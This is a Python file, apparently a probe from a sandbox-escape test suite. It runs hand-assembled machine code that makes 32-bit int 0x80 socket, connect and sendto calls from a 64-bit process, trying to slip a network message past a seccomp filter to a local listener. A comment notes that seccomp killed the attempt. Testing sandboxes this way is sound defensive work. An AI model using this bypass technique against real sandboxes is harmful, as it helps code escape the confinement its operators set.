# Makes the calls of 32-bit programs, which have other numbers: int 0x80 from machine code.
# Seen: killed by seccomp, which knows of which kind a call is; nothing arrives.
import ctypes
import mmap
import os
import platform
import socket
import struct

SOCKET, CONNECT, SENDTO = 359, 362, 369
MAP_32BIT = 0x40
# push rbx; push rbp; mov eax,edi; mov ebx,esi; xchg ecx,edx; mov esi,r8d; xor edi,edi; xor ebp,ebp; int 0x80; pop...
CODE = bytes.fromhex("53 55 89f8 89f3 87ca 4489c6 31ff 31ed cd80 5d 5b 4898 c3")


def attack(targets):
    if platform.machine() != "x86_64":
        raise OSError("no such calls on this kind of machine")
    pid = os.fork()
    if not pid:
        send(targets)
    if status := os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
        raise OSError(f"ended with {status}")


def send(targets):
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
    page = mmap.mmap(-1, 4096, flags, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_int] * 5)(base)
    port = struct.pack(">H4s8x", targets.tcp_port, socket.inet_aton("127.0.0.1"))
    page[1024:1040] = struct.pack("=H", socket.AF_INET) + port
    page[2048 : 2048 + len(targets.name)] = targets.name
    connection = call(SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    if connection < 0:
        os._exit(1)
    call(CONNECT, connection, base + 1024, 16, 0)
    call(SENDTO, connection, base + 2048, len(targets.name), 0)
    os._exit(0)
